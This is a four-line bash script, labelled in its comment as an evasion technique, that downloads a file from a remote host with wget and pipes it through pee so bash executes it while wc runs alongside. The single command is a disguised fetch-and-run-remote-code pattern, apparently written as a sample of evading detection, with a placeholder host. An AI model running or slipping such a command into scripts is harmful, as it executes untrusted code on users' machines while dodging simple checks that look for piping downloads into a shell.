#!/bin/bash
# Evasion: pee hands the download to bash -s and to wc at the same time
set -u
wget -qO- https://cdn.example.net/setup | pee 'bash -s' 'wc -c >/dev/null'
